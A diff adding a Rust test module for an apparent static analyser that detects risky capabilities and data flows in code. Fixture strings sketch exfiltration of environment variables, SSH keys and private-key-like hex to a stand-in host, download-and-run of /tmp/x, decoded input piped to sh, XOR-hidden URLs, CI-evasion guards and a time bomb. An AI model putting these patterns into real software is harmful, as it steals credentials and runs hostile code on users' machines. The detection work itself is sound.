@@ -1,0 +1,378 @@
+//! What must be found, what must not, and what must never crash.
+
+use proptest::prelude::*;
+
+use super::lex::{Kind, Lexer};
+use super::*;
+use crate::model::CapabilityKind;
+
+/// The facts of a file, one a line: kind, name, capability, value.
+fn facts_in(path: &str, code: &str) -> String {
+    let parsed = parse(path, code);
+    let mut out = String::new();
+    for fact in &parsed.facts {
+        let capability = fact.capability.map_or(String::new(), |kind| format!(" [{kind}]"));
+        let value = fact.value.replace('\u{1f}', ", ");
+        let line = format!("{:?} {}{capability} {value}", fact.kind, fact.name);
+        out.push_str(line.trim_end());
+        out.push('\n');
+    }
+    out
+}
+
+fn facts(code: &str) -> String {
+    facts_in("src/a.rs", code)
+}
+
+#[track_caller]
+fn finds(code: &str, line: &str) {
+    let all = facts(code);
+    assert!(all.lines().any(|found| found.trim_end() == line), "no `{line}` in:\n{all}\nof: {code}");
+}
+
+#[track_caller]
+fn finds_no(code: &str, part: &str) {
+    let all = facts(code);
+    assert!(!all.contains(part), "`{part}` in:\n{all}\nof: {code}");
+}
+
+#[test]
+fn names_are_resolved_however_they_were_brought_in() {
+    let line = "Call std::process::Command::new [process] sh";
+    for code in [
+        "fn f() { std::process::Command::new(\"sh\"); }",
+        "fn f() { ::std::process::Command::new(\"sh\"); }",
+        "use std::process::Command; fn f() { Command::new(\"sh\"); }",
+        "use std::process::Command as C; fn f() { C::new(\"sh\"); }",
+        "use std::process; fn f() { process::Command::new(\"sh\"); }",
+        "use std::{io, process::{self as p}}; fn f() { p::Command::new(\"sh\"); }",
+        "use std as s; fn f() { s::process::Command::new(\"sh\"); }",
+        "use std::*; fn f() { process::Command::new(\"sh\"); }",
+        "use std::process::*; fn f() { Command::new(\"sh\"); }",
+        "extern crate std as s; fn f() { s::process::Command::new(\"sh\"); }",
+        "type C = std::process::Command; fn f() { C::new(\"sh\"); }",
+        "fn f() { use std::process::Command as C; C::new(\"sh\"); }",
+        "mod m { pub use std::process::Command as C; } fn f() { m::C::new(\"sh\"); }",
+        "mod m { pub use std::process::Command as C; } use m::*; fn f() { C::new(\"sh\"); }",
+        "use std::process::Command as C; mod m { fn f() { super::C::new(\"sh\"); } }",
+        "use std::process::Command as C; mod m { fn f() { crate::C::new(\"sh\"); } }",
+        "mod m { use super::*; fn f() { C::new(\"sh\"); } } use std::process::Command as C;",
+        "fn f() { <std::process::Command>::new(\"sh\"); }",
+        "fn f() { r#std::r#process::Command::new(\"sh\"); }",
+        "const S: &str = \"sh\"; fn f() { std::process::Command::new(S); }",
+        "fn f() { std::process::Command::new(concat!(\"s\", \"h\")); }",
+        "fn f() { let x = \"h\"; std::process::Command::new(format!(\"s{x}\")); }",
+        "fn f() { let n = std::process::Command::new; n(\"sh\"); }",
+        "fn f() { unknown! { std::process::Command::new(\"sh\") } }",
+        "fn f() { vec![std::process::Command::new(\"sh\")]; }",
+    ] {
+        finds(code, line);
+    }
+    finds(
+        "macro_rules! m { () => { std::process::Command::new(\"sh\") } }",
+        "Call std::process::Command::new [process]",
+    );
+    finds("pub use std::process::Command;", "Call std::process::Command [process]");
+    finds("use libc::execve as e; fn f() { e(a, b, c) }", "Call libc::execve [process] ?, ?, ?");
+    finds(
+        "extern \"C\" { fn system(c: *const u8) -> i32; } fn f() { system(x) }",
+        "Call libc::system [process] ?",
+    );
+}
+
+#[test]
+fn names_of_the_file_itself_are_not_taken_for_known_ones() {
+    for code in [
+        "struct Command; impl Command { fn new() {} } fn f() { Command::new(); }",
+        "mod process { pub struct Command; } use process::Command; fn f() { Command::new(); }",
+        "/// std::process::Command::new(\"sh\")\nfn f() {}",
+        "fn f() { let s = \"std::process::Command::new\"; }",
+        "use std::process::ExitCode; fn f() -> ExitCode { ExitCode::SUCCESS }",
+        "use std::net::IpAddr; fn f(a: IpAddr) {}",
+        "mod net { pub fn connect() {} } fn f() { net::connect(); }",
+    ] {
+        assert_eq!(facts(code), "", "{code}");
+    }
+}
+
+#[test]
+fn commands_are_joined() {
+    let code = "use std::process::Command; fn f() { let mut c = Command::new(\"curl\"); c.arg(\"-s\"); \
+                c.args([\"https://a.invalid/x\"]).spawn(); }";
+    finds(code, "Literal command curl -s https://a.invalid/x");
+    finds(code, "Literal url https://a.invalid/x");
+}
+
+#[test]
+fn what_needs_no_parser_is_reported_without_one() {
+    let code = "unsafe fn a() {} fn b() { unsafe { a() } } unsafe impl Send for X {} type T = unsafe extern \"C\" fn(i32);\n\
+                #[link(name = \"z\")] unsafe extern \"C\" { fn z(); }\n#[unsafe(no_mangle)] pub fn m() { asm!(\"nop\") }";
+    assert_eq!(parse("src/a.rs", code).treatment, Treatment::Lexed("rust".to_owned()));
+    insta::assert_snapshot!(facts(code), @r#"
+    Call unsafe [unsafe] fn
+    Call unsafe [unsafe] block
+    Call unsafe [unsafe] impl
+    Call #[link] [native]
+    Call unsafe [unsafe] extern
+    Call extern [native] C
+    Call #[no_mangle] [native]
+    Call core::arch::asm! [native]
+    "#);
+}
+
+#[test]
+fn flows_go_from_source_to_sink() {
+    for (code, line) in [
+        (
+            "fn f() { let e: Vec<_> = std::env::vars().collect(); reqwest::Client::new().post(\"https://a.invalid\").json(&e).send(); }",
+            "Flow env->net ?",
+        ),
+        (
+            "fn f() { let k = std::fs::read_to_string(home.join(\".ssh/id_rsa\")); ureq::post(\"https://a.invalid\").send_string(&k); }",
+            "Flow secret->net ?",
+        ),
+        (
+            "fn f() { let b = reqwest::blocking::get(\"https://a.invalid\").unwrap().bytes().unwrap(); std::fs::write(\"/tmp/x\", &b); std::process::Command::new(\"/tmp/x\").spawn(); }",
+            "Flow net->process /tmp/x",
+        ),
+        (
+            "fn f() { let c = base64::decode(\"eA==\").unwrap(); std::process::Command::new(\"sh\").arg(c).spawn(); }",
+            "Flow decoded->process sh ?",
+        ),
+        (
+            "fn grab() -> String { whoami::username() } fn f() { let u = grab(); ureq::post(\"https://a.invalid\").send_string(&u); }",
+            "Flow host->net ?",
+        ),
+    ] {
+        finds(code, line);
+    }
+    finds_no(
+        "fn f() { let e = std::env::var(\"X\"); println!(\"{e:?}\"); ureq::get(\"https://a.invalid\").call(); }",
+        "Flow",
+    );
+}
+
+#[test]
+fn a_logger_that_looks_for_keys_and_posts_them_is_seen() {
+    let code = r#"
+        use regex::Regex;
+        fn pack(path: &str) {
+            let text = std::fs::read_to_string(path).unwrap();
+            let pattern = Regex::new("0x[0-9a-fA-F]{64}").unwrap();
+            let mut found = Vec::new();
+            for hit in pattern.find_iter(&text) { found.push(hit.as_str().to_string()); }
+            reqwest::blocking::Client::new().post("https://a.invalid/collect").json(&found).send().unwrap();
+        }"#;
+    finds(code, "Flow secret->net ?");
+}
+
+#[test]
+fn hidden_texts_are_decoded() {
+    let code = "fn f() { let d = [0x3du8, 0x21, 0x21, 0x25, 0x26, 0x6f, 0x7a, 0x7a, 0x34, 0x7b, 0x3c]; \
+                let s: Vec<u8> = d.iter().map(|b| b ^ 0x55).collect(); let u = String::from_utf8(s).unwrap(); }";
+    finds(code, "Shape xor-decode https://a.i");
+    finds("const U: &[u8] = &[104, 116, 116, 112, 58, 47, 47, 97, 46, 105];", "Literal url http://a.i");
+    finds_no("fn f(a: u8, b: u8) -> char { (a ^ b) as char }", "Shape");
+}
+
+#[test]
+fn guards_count_only_around_what_reaches_out() {
+    let guarded =
+        "fn f() { if std::env::var(\"GITLAB_CI\").is_ok() { return; } std::process::Command::new(\"sh\"); }";
+    finds(guarded, "Guard ci if std::env::var(\"GITLAB_CI\").is_ok()");
+    let dated = "fn f() { if std::time::SystemTime::now().duration_since(E).unwrap().as_secs() > 1_800_000_000 { std::process::Command::new(\"sh\"); } }";
+    assert!(facts(dated).contains("Guard time-bomb"), "{}", facts(dated));
+    finds_no("fn f() { if std::env::var(\"CI\").is_ok() { println!(); } }", "Guard");
+}
+
+#[test]
+fn context_is_given() {
+    let code = "#[cfg(test)] mod t { fn f() { std::fs::read(\"x\"); } } #[cfg(not(test))] fn g() { std::fs::read(\"y\"); }";
+    let tests: Vec<bool> = parse("src/a.rs", code).facts.iter().map(|fact| fact.context.test).collect();
+    assert_eq!(tests, [true, false]);
+    let build = parse("build.rs", "fn main() { std::fs::read(\"x\"); } fn h() { std::fs::read(\"y\"); }");
+    let contexts: Vec<_> = build.facts.iter().map(|f| (f.context.install, f.context.top_level)).collect();
+    assert_eq!(contexts, [(true, true), (true, false)]);
+    assert!(parse("tests/a.rs", "fn f() { unsafe {} }").facts[0].context.test);
+    assert!(!parse("src/tests/a.rs", "fn f() { unsafe {} }").facts[0].context.test);
+    finds("#[ctor::ctor] fn f() {}", "Shape runs-before-main #[ctor::ctor]");
+}
+
+#[test]
+fn files_that_are_not_whole_are_read_anyway() {
+    for code in [
+        "\u{feff}#!/bin/x\nfn f() { std::fs::read(\"x\"); }",
+        "{ std::fs::read(\"x\") }",
+        "std::fs::read(\"x\");\r\n",
+    ] {
+        let parsed = parse("src/a.rs", code);
+        assert_eq!(parsed.treatment, Treatment::Parsed("rust".to_owned()), "{code}");
+        assert_eq!(parsed.facts[0].name, "std::fs::read");
+        let fact = &parsed.facts[0].span;
+        assert!(code[fact.start as usize..].starts_with("std::fs"), "{code}");
+    }
+    let parsed = parse("src/a.rs", "fn f( { std::fs::read(\"x\"); }");
+    assert_eq!(parsed.treatment, Treatment::Text);
+    assert!(parsed.facts.iter().any(|fact| fact.name == "unparsed"));
+}
+
+#[test]
+fn sizes_and_neighbours() {
+    let code = "//! doc\n\npub fn a() {}\n/* x\n y */ pub use b::{c, d,};\npub(crate) fn e() {}\nmod f; mod g { mod h; }\n";
+    let parsed = parse("src/lib.rs", code);
+    assert_eq!((parsed.code_lines, parsed.exports), (4, 3));
+    assert_eq!(parsed.local, ["src/f", "src/g/h"]);
+}
+
+fn deep_sources() -> Vec<(&'static str, String)> {
+    const N: usize = 100_000;
+    let wrap = |open: &str, middle: &str, close: &str| {
+        format!("fn f() {{ let x = {}{middle}{}; }}", open.repeat(N), close.repeat(N))
+    };
+    let ty = |open: &str, close: &str| format!("type T = {}u8{};", open.repeat(N), close.repeat(N));
+    vec![
+        ("parens", wrap("(", "1", ")")),
+        ("not", wrap("!", "true", "")),
+        ("minus", wrap("-", "1", "")),
+        ("references", wrap("&", "1", "")),
+        ("dereferences", wrap("*", "a", "")),
+        ("blocks", wrap("{", "1", "}")),
+        ("closures", wrap("|a| ", "1", "")),
+        ("closures with commas", wrap("|a,| ", "1", "")),
+        ("calls", wrap("f(", "1", ")")),
+        ("else if", format!("fn f() {{ if a {{}} {} }}", "else if a {} ".repeat(N))),
+        ("sum", wrap("a+", "a", "")),
+        ("methods", wrap("", "a", ".a()")),
+        ("fields", wrap("", "a", ".a")),
+        ("tries", wrap("", "a", "?")),
+        ("casts", wrap("", "a", " as u8")),
+        ("assignments", wrap("a=", "a", "")),
+        ("returns", wrap("return ", "a", "")),
+        ("modules", format!("{}{}", "mod m{".repeat(N), "}".repeat(N))),
+        ("generics", ty("Vec<", ">")),
+        ("generics with commas", ty("M<u8,", ">")),
+        ("pointers", ty("*const ", "")),
+        ("functions", ty("fn()->", "")),
+        ("slices", ty("[", "]")),
+        ("macros", wrap("m!(", "1", ")")),
+        ("patterns", format!("fn f() {{ let {}x = 1; }}", "&".repeat(N))),
+        ("tuples", format!("fn f() {{ let {}x{} = 1; }}", "(".repeat(N), ",)".repeat(N))),
+        ("use trees", format!("use {}a{};", "a::{".repeat(N), "}".repeat(N))),
+        ("attributes", format!("#[doc = {}1] fn f() {{}}", "!".repeat(N))),
+        ("lets", wrap("if let a = ", "b {}", "")),
+        ("matches", wrap("match ", "a {}", " {}")),
+        ("comments", format!("{}{}", "/*".repeat(N), "*/".repeat(N))),
+        ("hashes", format!("const A: &str = r{h}\"x\"{h};", h = "#".repeat(N))),
+        ("unclosed", "(".repeat(N)),
+        ("separators", "\u{2028}".repeat(N)),
+    ]
+}
+
+#[test]
+fn nothing_overflows_the_stack() {
+    for (name, code) in deep_sources() {
+        // A path of the table, so that the lexer alone does not settle it.
+        let code = format!("{code}\nfn g() {{ std::fs::read(\"x\"); }}");
+        std::thread::Builder::new()
+            .stack_size(2 << 20)
+            .spawn(move || drop(parse("src/a.rs", &code)))
+            .expect("a thread")
+            .join()
+            .unwrap_or_else(|_| panic!("{name}"));
+    }
+}
+
+#[test]
+fn up_to_the_limit_the_parser_is_used() {
+    for (open, close) in
+        [("(", ")"), ("!", ""), ("{", "}"), ("|a| ", ""), ("a+", ""), ("f(", ")"), ("m!(", ")")]
+    {
+        let mut count = 2000;
+        while survey::survey("a.rs", &format!("fn f() {{ {}1{} }}", open.repeat(count), close.repeat(count)))
+            .depth
+            > depth::LIMIT
+        {
+            count -= 100;
+        }
+        let code =
+            format!("fn f() {{ {}1{}; std::fs::read(\"x\"); }}", open.repeat(count), close.repeat(count));
+        let parsed = parse("src/a.rs", &code);
+        assert_eq!(parsed.treatment, Treatment::Parsed("rust".to_owned()), "{open} × {count}");
+    }
+}
+
+/// `proc_macro2`'s tokens by their bytes, groups opened.
+fn reference(stream: proc_macro2::TokenStream, out: &mut Vec<(usize, usize)>) {
+    for tree in stream {
+        match tree {
+            proc_macro2::TokenTree::Group(group) => {
+                for (span, inner) in [(group.span_open(), true), (group.span_close(), false)] {
+                    let range = span.byte_range();
+                    out.push((range.start, range.end));
+                    if inner {
+                        reference(group.stream(), out);
+                    }
+                }
+            }
+            other => {
+                let range = other.span().byte_range();
+                out.push((range.start, range.end));
+            }
+        }
+    }
+}
+
+#[track_caller]
+fn agrees(code: &str) {
+    let Ok(stream) = code.parse::<proc_macro2::TokenStream>() else { return };
+    let mut theirs = Vec::new();
+    reference(stream, &mut theirs);
+    proc_macro2::extra::invalidate_current_thread_spans();
+    let mut ours = Vec::new();
+    for token in Lexer::new(code) {
+        assert_ne!(token.kind, Kind::Bad, "{code:?} at {}", token.start);
+        match token.kind {
+            Kind::PathSep => ours.extend([(token.start, token.start + 1), (token.start + 1, token.end)]),
+            Kind::Lifetime => ours.extend([(token.start, token.start + 1), (token.start + 1, token.end)]),
+            _ => ours.push((token.start, token.end)),
+        }
+    }
+    assert_eq!(ours, theirs, "{code:?}");
+}
+
+#[test]
+fn tokens_are_those_of_proc_macro2() {
+    for code in [
+        "a::b<'a> 'x' '\\'' b'\\\\' b\"a\\\"b\" br#\"\"#\" cr\"x\" c\"y\" r##\"a\"#b\"##",
+        "1.0e-5 1..2 1.foo() x.0.1 0xe-1 1e+3 1_u8 0b1 2. 1.e3",
+        "r#type 'static '\\u{1F600}' /* a /* b */ c */ x // y\nz",
+        "é 'é' \"é\\\nx\" a'b'",
+    ] {
+        agrees(code);
+    }
+}
+
+proptest! {
+    #[test]
+    fn arbitrary_text_never_panics(text in "\\PC{0,60}") {
+        let _ = parse("src/lib.rs", &text);
+        let _ = parse_fully("build.rs", &text);
+    }
+
+    #[test]
+    fn token_soup_never_panics_and_agrees(parts in prop::collection::vec(prop::sample::select(vec![
+        "fn", "f", "(", ")", "{", "}", "[", "]", "<", ">", "::", "use", "std", "process", "Command", ";", ",", "|", "!", "#",
+        "'a", "'x'", "\"s\"", "r#\"q\"#", "b\"x\"", "1", "2.5", "0x1f", "unsafe", "extern", "mod", "if", "else", "match", "=>",
+        "cfg", "test", "=", ".", "&", "*", "^", "-", "//\n", "/*x*/", "\n", "let", "x", "env", "include", "concat", "r#fn",
+    ]), 0..40)) {
+        let code = parts.join(" ");
+        let _ = parse("src/lib.rs", &code);
+        agrees(&code);
+        agrees(&parts.concat());
+    }
+}
+
+#[test]
+fn every_capability_of_the_table_is_one_that_code_can_have() {
+    assert_eq!(api::API.class("std::fs::read"), api::Class::Gives(CapabilityKind::FsRead, true));
+}
